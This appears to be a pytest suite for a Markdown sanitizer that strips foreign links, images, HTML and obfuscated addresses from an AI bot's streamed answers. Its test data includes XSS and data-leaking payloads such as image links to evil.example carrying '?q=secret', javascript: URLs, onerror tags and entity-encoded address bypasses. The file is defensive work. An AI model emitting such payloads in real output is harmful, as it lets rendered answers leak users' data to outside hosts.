"""Test that no mark, link, image or HTML remains of a model's text except the book's own."""

from __future__ import annotations

import re
import time
from collections.abc import Iterable

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from ragbot.answering.markdown_sanitizer import LONGEST_HELD, MarkdownSanitizer
from ragbot.answering.source_slots import SourceSlots
from tests.answering.rendering import foreign_in
from tests.fuzzing import fuzz

OWN_URL = "https://book.test/cheese#ripening"
OWN_PAGE = "https://book.test/cheese"
QUOTED_URL = "https://yeast.example/guide"
OWN_MAIL = "bob@cheese.example"
OWN_TEXT = f"See [the guide]({QUOTED_URL}), write to {OWN_MAIL}, and close each <depend> tag."
OWN_TARGETS = {OWN_URL, OWN_PAGE, QUOTED_URL, f"mailto:{OWN_MAIL}", OWN_MAIL}


def cleaner(slots: SourceSlots | None = None) -> MarkdownSanitizer:
    slots = slots or SourceSlots(3, 3)
    return MarkdownSanitizer(number_of=slots.number_of, own_text=OWN_TEXT, own_urls=[OWN_URL])


def cleaned_text(pieces: str | Iterable[str], allowed: int = 3) -> str:
    return cleaned_and_cited(pieces, allowed)[0]


def cleaned_and_cited(pieces: str | Iterable[str], allowed: int = 3) -> tuple[str, set[int]]:
    slots = SourceSlots(allowed, allowed)
    made = cleaner(slots)
    given_text = [made.feed(piece) for piece in ([pieces] if isinstance(pieces, str) else pieces)]
    given_text.append(made.flush())
    return "".join(given_text), set(slots.cited)


# --- each construct ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Nine months [1].", "Nine months [1]."),
        ("Nine months [1, 3].", "Nine months [1][3]."),
        ("Nine months [1; 2].", "Nine months [1][2]."),
        ("Nine months [1-3].", "Nine months [1][2][3]."),
        ("Nine months [1–2].", "Nine months [1][2]."),
        ("Nine months [1][1].", "Nine months [1][1]."),
        ("Nine months [^2].", "Nine months [2]."),
        ("Nine months [ 2 ].", "Nine months [2]."),
        ("It is ripe![1]", "It is ripe![1]"),
        ("Nine months [1](https://evil.example/).", "Nine months [1]."),
        ("Nine months [1](<https://evil.example/> 'there').", "Nine months [1]."),
        ("[1]: Bob ripens it.", "[1]\\: Bob ripens it."),
        ("As says [1]: nine months.", "As says [1]: nine months."),
        ("Nine months [1] (see there).", "Nine months [1] (see there)."),
        ("Nine months [1](see there too).", "Nine months [1]\\(see there too)."),
    ],
)
def test_marks_are_written_one_way(written: str, shown: str) -> None:
    """The console and the book's site look for `[n]` alone."""
    assert cleaned_text(written) == shown


@pytest.mark.parametrize(
    ("written", "shown", "cited"),
    [
        ("It ripens [4].", "It ripens .", set()),
        ("It ripens [0][2].", "It ripens [2].", {2}),
        ("It ripens [2-9].", "It ripens [2][3].", {2, 3}),
        ("It ripens [3-1] long.", "It ripens  long.", set()),
        ("It ripens [1, 99].", "It ripens [1].", {1}),
        ("In [2024] it ripened.", "In [2024] it ripened.", set()),
        ("`list[1]` is code [2].", "`list[1]` is code [2].", {2}),
    ],
)
def test_marks_out_of_range_are_dropped(written: str, shown: str, cited: set[int]) -> None:
    """A mark without a passage would be a citation of nothing."""
    assert cleaned_and_cited(written) == (shown, cited)


@pytest.mark.parametrize(
    ("written", "own", "shown"),
    [
        ("It has 10<sup>9</sup> bytes of CO<sub>2</sub>.", "", "It has 10⁹ bytes of CO₂."),
        ("It has 10<sup>-9</sup> m<sup>*n*</sup>.", "10<sup>-9</sup>", "It has 10⁻⁹ mⁿ."),
        ("The 1<sup>st</sup> of them.", "The 1<sup>st</sup>", "The 1st of them."),
        ("Close the <sup> tag.", "Close each \\<sup> tag.", "Close the `<sup>` tag."),
        ("It is 9 <sup", "10<sup>9</sup>", "It is 9 &lt;sup"),
    ],
)
@pytest.mark.parametrize("length", [1, 4, 100])
def test_power_is_written_with_small_signs(written: str, own: str, shown: str, length: int) -> None:
    """Without its tags 10 to the ninth is 109, and as code they are no power."""
    made = MarkdownSanitizer(number_of=lambda _: None, own_text=own, own_urls=[])

    pieces = [made.feed(written[at : at + length]) for at in range(0, len(written), length)]

    assert "".join((*pieces, made.flush())) == shown


def test_no_passage_means_no_mark() -> None:
    """A selection that is not in the book has no source to point to."""
    assert cleaned_and_cited("It says so [1].", allowed=0) == ("It says so .", set())


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("See [the shop](https://evil.example/x).", "See the shop."),
        ("See [the shop](/admin).", "See the shop."),
        ("See [the shop](javascript:alert(1)).", "See the shop."),
        ('See [the shop](https://evil.example "a title").', "See the shop."),
        ("See [the *shop*](https://evil.example).", "See the *shop*."),
        (f"See [the chapter]({OWN_URL}).", f"See [the chapter](<{OWN_URL}>)."),
        (f"See [the chapter]({OWN_PAGE}).", f"See [the chapter](<{OWN_PAGE}>)."),
        (f'See [the guide]({QUOTED_URL} "Yeast").', f"See [the guide](<{QUOTED_URL}>)."),
        (f"See [`yeast`]({QUOTED_URL}).", f"See [`yeast`](<{QUOTED_URL}>)."),
        (f"[1]({OWN_URL})", "[1]"),
        ("[[deep](https://evil.example)](https://evil.example)", "[deep]\\( )"),
        ("[ref]: https://evil.example", "[ref]\\: "),
        ("See [the shop][ref].", "See [the shop][ref]."),
        ("a[i](x)", "ai"),
        ("Look: [half a link](https://evil.exa", "Look: [half a link]\\("),
    ],
)
def test_link_stays_only_if_it_is_the_books(written: str, shown: str) -> None:
    """A link can carry a reader, or what he asked, to anyone."""
    assert cleaned_text(written) == shown


@pytest.mark.parametrize(
    "url",
    [
        "https://yeast.example",
        "https://yeast.exam",
        "https://yeast.example/guide@evil.example/",
        "https://yeast.example/guide)@evil.example/",
        "https://yeast.example/guide'@evil.example/",
        "https://yeast.example/guide.evil.example/",
    ],
)
def test_part_of_the_books_address_is_not_the_books(url: str) -> None:
    """`https://a.test` is a part of `https://a.test.evil/`, and another host."""
    shown = cleaned_text(f"See {url} or [there](<{url}>).")

    assert "://" not in shown


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Look ![a cheese](https://evil.example/?q=secret) here.", "Look  here."),
        ("Look ![](https://evil.example/a(b)c) here.", "Look  here."),
        (f"Look ![mine]({OWN_URL}) here.", "Look  here."),
        ("![half](https://evil.exa", "![half]\\("),
    ],
)
def test_image_is_dropped(written: str, shown: str) -> None:
    """An image is fetched without a click: the smallest leak there is."""
    assert cleaned_text(written) == shown


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("It is <b>ripe</b>.", "It is ripe."),
        ("<b>Note</b>: ripe", "Note: ripe"),
        ("one<br>two", "onetwo"),
        ("<script>alert(1)</script>", "alert(1)"),
        ("<img src=x onerror=alert(1)>", ""),
        ("a <!-- hidden --> b", "a  b"),
        ("a <!-- hidden\nfor long --> b", "a  b"),
        ("a <!-- hidden", "a &lt;!-- hidden"),
        ("a <b and c", "a &lt;b and c"),
        ("<img\nsrc=x>", "&lt;img\nsrc=x>"),
        ("close the <depend> tag", "close the `<depend>` tag"),
        ("1 < 2 and 2 <= 3, a<-b, x << 3", "1 < 2 and 2 <= 3, a<-b, x << 3"),
        ("<<b>img src=x>", "&lt; img src=x>"),
        ("\\<b>", "&lt;b>"),
        ("<https://evil.example/>", ""),
        (f"<{QUOTED_URL}>", QUOTED_URL),
    ],
)
def test_html_is_dropped_or_shown_as_text(written: str, shown: str) -> None:
    """A tag is nothing that an answer needs, and the shortest way into a page."""
    assert cleaned_text(written) == shown


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Go to https://evil.example/x?q=1 now.", "Go to  now."),
        ("Go to (https://evil.example).", "Go to ()."),
        ("Go to www.evil.example.", "Go to ."),
        ("Go to //evil.example/x now", "Go to  now"),
        ("Write to eve@evil.example.", "Write to ."),
        ("Go to mailto:eve@evil.example", "Go to "),
        ("Run javascript:alert(1)", "Run )"),
        (f"Go to {QUOTED_URL}.", f"Go to {QUOTED_URL}."),
        (f"Go to ({OWN_URL}), then on.", f"Go to ({OWN_URL}), then on."),
        (f"Write to {OWN_MAIL}.", f"Write to {OWN_MAIL}."),
        (
            "Use react@18.2.0 and @app.route and pi@raspberry",
            "Use react@18.2.0 and @app.route and pi@raspberry",
        ),
        ("std::vector, 7//2 and note:this", "std::vector, 7//2 and note:this"),
        ("It begins with `https`: **https://** (or http://), not ftp://…", None),
        ("Type https:// or // and a host", None),
        ("AT&amp;T, 1\\. not a list, C:\\.ros, 2 &#8805; 1, a &lt; b\\:", None),
        (f"Go to {QUOTED_URL.replace('/', chr(92) + '/')}.", f"Go to {QUOTED_URL}."),
    ],
)
def test_bare_address_stays_only_if_it_is_the_books(written: str, shown: str | None) -> None:
    """Most programs that show Markdown make a link of it unasked."""
    assert cleaned_text(written) == (written if shown is None else shown)


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Go to https://-x.evil.example/q?d=secret now", "Go to  now"),
        ("Go to http://-x.evil.example and ftp://-x.evil.example/", "Go to  and "),
        ("Go to //-x.evil.example/x", "Go to "),
        ("Go to ///evil.example/x", "Go to "),
        ("Go to https://~x.evil.example/", "Go to "),
        ("Go to https://[::1]/x", "Go to "),
        ("Go to https://\N{GRINNING FACE}.evil.example/", "Go to "),
        ("Go to //\N{GRINNING FACE}.evil.example/", "Go to "),
        ('Go to https://"@evil.example or //"@evil.example', "Go to  or "),
        ("Go to https://`x.evil.example", "Go to \\`x.evil.example"),
        ("Write to me@-x.evil.example!", "Write to !"),
        ("Write to me@\N{GRINNING FACE}.evil.example", "Write to "),
        ("Go to xwww.a@3405803781/steal", "Go to x"),
        ("Go to a.WWW.b@3405803781/steal", "Go to a."),
    ],
)
def test_address_is_one_whatever_its_host_begins_with(written: str, shown: str) -> None:
    """GFM takes a hyphen there, browsers take more."""
    assert cleaned_text(written) == shown


@pytest.mark.parametrize(
    "written",
    [
        "https&#58;&#47;&#47;evil.example/x",
        "https&colon;&sol;&sol;evil&period;example/x",
        "&#104;ttps://3405803781/x",
        "&#x68;ttps&#x3a;//3405803781/x",
        "htt&#112;s://3405803781/x",
        r"https:\/\/evil.example/x",
        r"https\://3405803781/x",
        r"https:/\/\-x.evil.example/x",
        r"www\.evil.example",
        "www&#46;evil.example",
        "ww&#119;.evil.example",
        "eve&#64;evil.example",
        r"eve\@evil\.example",
        "mailto&#58;eve@evil.example",
        "javascript&colon;alert`1`",
        "https:&#47;<b></b>&#47;evil.example",
        "www<b></b>&#46;evil.example",
        r"www<b></b>\.evil.example",
        "https&#5&#56;;//3405803781/x",
        "NOT_IN_BOOK&#104;ttps://3405803781/x",
    ],
)
def test_address_in_entities_or_with_escaped_signs_is_one_too(written: str) -> None:
    """A program that makes links of what it has decoded (as remark does) would make one of it."""
    shown = cleaned_text(f"Go to {written} now")

    assert foreign_in(shown, OWN_TARGETS) == []
    assert "3405803781" not in shown
    assert cleaned_text(f"Go to {written} now") == cleaned_text([*f"Go to {written} now"])


def test_address_of_any_length_is_one() -> None:
    """What leaks may be long, and no white space stands in it."""
    for length in (LONGEST_HELD - 30, LONGEST_HELD, 2 * LONGEST_HELD):
        for before in ("", "x" * 500):
            shown = cleaned_text(f"{before}https://evil.example/?d={'secret' * (length // 6)} now")

            assert "evil.example" not in shown
            assert foreign_in(shown, OWN_TARGETS) == []


@pytest.mark.parametrize(
    "written",
    [
        "Call `ripen()` with `<months>`.",
        "Write `![x](https://evil.example)` so.",
        "A ``code with a ` in it`` here.",
        "Type `a | b` there.",
        "```python\nx = '<b>' # [9](https://evil.example)\n```\n",
        "~~~\n<img src=x>\n```\nstill code\n~~~\n",
        "````md\n```\n<b>\n```\n````\nand on",
        "1. Run:\n   ```bash\n   ros2 run <pkg>\n   ```\n2. Done",
    ],
)
def test_code_is_left_as_it_stands(written: str) -> None:
    """It is shown and not followed, and a letter changed in it is a bug in the reader's program."""
    assert cleaned_text(written) == written


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("an `unclosed span", "an \\`unclosed span"),
        ("a `span over\ntwo lines`", "a \\`span over\ntwo lines\\`"),
        ("> ```\n<img src=x>\n", "> \\`\\`\\`\n\n"),
        ("- ```sh\n  ls\n  ```\nand on", "- \n  ```sh\n  ls\n  ```\nand on"),
        ("       ```\n       code\n       ```\n", "       \n   ```\n   code\n   ```\n"),
        ("  ```\ncode too far out\n  ```\n", "  ```\n  code too far out\n  ```\n"),
        ("```\ncode without an end", "```\ncode without an end\n```"),
        ("| `a | <b>` |", "| a \\| &lt;b\\> |"),
        ("| `<A-\\|>` | b |", "| &lt;A\\-\\|\\> | b |"),
        ("run `ls | wc`; the tag `<bundle id>`", "run `ls | wc`; the tag &lt;bundle id\\>"),
        ("`int | None` or `list[str]`", "`int | None` or list\\[str\\]"),
        ("| `a | https://evil.example/` |", "| \\`a | \\` |"),
    ],
)
def test_code_that_renderers_see_differently_is_made_plain(written: str, shown: str) -> None:
    """What is code for us and not for a renderer would reach the page as it stands."""
    assert cleaned_text(written) == shown


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("NOT_IN_BOOK The book is silent.", " The book is silent."),
        ("It is NOT_IN_BOOK, alas.", "It is , alas."),
        ("one\r\ntwo\rthree", "one\ntwo\nthree"),
        ("nul\x00 and bell\x07", "nul and bell"),
        ("*bold* _and_ ~~gone~~ 1. > # | plain", "*bold* _and_ ~~gone~~ 1. > # | plain"),
        ("a\\*b \\[x\\] \\(y\\)", "a\\*b \\[x\\] \\(y\\)"),
    ],
)
def test_plain_text_passes(written: str, shown: str) -> None:
    """Only what could mislead is touched."""
    assert cleaned_text(written) == shown


# --- whatever is written -----------------------------------------------------------------------

SIGNS = """[ ] ( ) < > ! ` `` ``` ~~~ | \\ : / // . @ # = - _ ** * ~ & ' " ? w www. http https :// mailto:
data: javascript: evil.example [x](https://evil.example) ![x](https://evil.example) [ref]: [^1]: [1] [9] [1,2]
<img <b> </b> <!-- --> <https://evil.example> <depend> src=x> &lt; &#91; eve@evil.example é 1. - > 10.
NOT_IN_BOOK a word `a|b` `<i>` ```js https&#58; &#47;&#47; &sol; \\/ \\/\\/ \\: \\. \\@ www&#46; &period;
ww&#119; &#104;ttps &commat; &amp; &#38; ://- @- -x.evil.example xwww.a@ 3405803781/x \\-""".split()
SPACES = [
    " ",
    "\n",
    "\n\n",
    "    ",
    "   ",
    "\t",
    "\r",
    "\r\n",
    "\x00",
    "\n|---|---|\n",
    "\n|---|\n",
    "- [x] ",
]
ATOMS = st.sampled_from([*SIGNS, *SPACES, OWN_URL, QUOTED_URL, OWN_MAIL, f"[own]({OWN_URL})"])
WRITINGS = st.lists(ATOMS | st.text(max_size=3), max_size=30).map("".join)

# Each broke a cleaner that was tried before: what holds a sign is left out and joins its neighbours, a
# renderer's code ends earlier than ours, a table takes precedence.
ADVERSARIAL = [
    "[1]<b></b>(https://evil.example)",
    "[x]<b>: https://evil.example",
    "<<b>img src=x onerror=y>",
    "w<b>ww.evil.example www.<b>evil.example http<b>://evil.example eve<b>@evil.example",
    "\\<b>` <img src=x> `",
    "`a\nb` <img src=x> `c`",
    "[`x](https://book.test/cheese) ` <img src=x> `",
    "> ```\n<img src=x>\n",
    "- ```\n  code\n<img src=x>\n",
    "para\n    ```\n\n<img src=x>\n    ```",
    "| a | b |\n|---|---|\n| ` | <img src=x> ` |",
    "| `a | b` x `<img src=x>` |\n|---|---|---|",
    "~~~ <img src=x> |\n|---|\n~~~",
    "[foo\nbar]: https://evil.example\n\n[foo bar]",
    "[\\[1]: https://evil.example\n\n[\\[1]",
    "- [x] [1]: https://evil.example",
    "[![a](https://evil.example)](https://evil.example)",
    f"{QUOTED_URL}<b></b>.evil.example {QUOTED_URL}`x`@evil.example",
    "<a title='>' href=https://evil.example>x</a>",
    "<" * (LONGEST_HELD + 3) + "img src=x>",
    "(" * (LONGEST_HELD - 2) + "www.evil.example",
    "https://" + ")" * LONGEST_HELD + '"@evil.example',
    "(" * (LONGEST_HELD - 2) + r"w\.evil.example" + r" ww\w.evil.example",
    "`" * 3 + "x" * LONGEST_HELD + "\n<img src=x>\n```",
]


@pytest.mark.parametrize("written", ADVERSARIAL)
def test_nothing_foreign_gets_through_by_a_trick(written: str) -> None:
    """A book's page, or a reader's selection, may hold such a text on purpose."""
    assert foreign_in(cleaned_text(written), OWN_TARGETS) == []


@fuzz(30)
@given(WRITINGS)
def test_nothing_foreign_gets_through(written: str) -> None:
    """The promise of the contract, held against a renderer that takes HTML."""
    assert foreign_in(cleaned_text(written), OWN_TARGETS) == []


@fuzz(30)
@given(WRITINGS, st.randoms(use_true_random=False))
@example("x.www.foo://bar [1](a) ```\n", None)
def test_the_cut_into_pieces_changes_nothing(written: str, random: object) -> None:
    """A provider cuts where it likes, and the JSON reply is the sum of the stream."""
    pieces = list(written)
    if random is not None:
        cuts = sorted(random.randrange(len(written) + 1) for _ in range(4))
        pieces = [written[a:b] for a, b in zip([0, *cuts], [*cuts, len(written)], strict=True)]

    assert cleaned_and_cited(pieces) == cleaned_and_cited(written)
    assert cleaned_and_cited(list(written)) == cleaned_and_cited(written)


@fuzz(10)
@given(WRITINGS)
def test_the_cut_changes_nothing_beyond_what_is_held(written: str) -> None:
    """Where patience ends must not depend on how much came at once."""
    for opening in ("`", "<a ", "[a](", "<!-- ", "https://", "```"):
        long = f"{opening}{'x y' * (LONGEST_HELD // 3)}{written}"

        assert cleaned_and_cited(re.findall(r"(?s).{1,7}", long)) == cleaned_and_cited(long)


# --- latency and time --------------------------------------------------------------------------


def test_plain_words_are_held_back_by_one_word_at_most() -> None:
    """A reader watches them come."""
    made = cleaner()
    words = "Bob ripens the cheddar, for nine long months; in a cool cellar. It's (very) good: yes".split(" ")

    shown = [made.feed(f"{word} ") for word in words]

    assert shown == [f"{word} " for word in words]
    assert cleaner().feed("Bob ripens") == "Bob "


def test_text_without_spaces_is_not_held_back() -> None:
    """Japanese and Thai write none."""
    assert cleaner().feed("チーズは九か月") == "チーズは九か月"


def test_mark_is_held_back_until_the_next_character_alone() -> None:
    """It may be the text of a link; after that it is a mark."""
    made = cleaner()

    assert [made.feed(piece) for piece in ("ripe ", "[", "1", "]", ".")] == ["ripe ", "", "", "", "[1]"]
    assert made.feed(" ") == ". "


def test_what_never_closes_is_held_back_no_longer_than_the_limit() -> None:
    """One stray sign must not silence the rest of an answer."""
    made = cleaner()

    shown = made.feed("a `" + "word " * (LONGEST_HELD // 5))

    assert shown.startswith("a \\`word word")


@pytest.mark.parametrize(
    "sign",
    """[ < ` ! ] \\ ~ @ ( w // //a& a&amp;// @&amp; \\/ &#58;~ www\\. https://) <a <!-- [a]( [a](b) ![a](
    `a``b```c www. https://e [1, [[[[a]]]](b) a _a \\` é &lt; | a@b""".split(),
)
def test_time_grows_with_the_length_alone(sign: str) -> None:
    """A model that stutters must not hold a worker."""
    written = sign * (25_000 // len(sign)) + f"{sign} " * (25_000 // (len(sign) + 1)) + f"{sign}\n" * 100
    started = time.process_time()

    cleaned_text(written)

    assert time.process_time() - started < 2
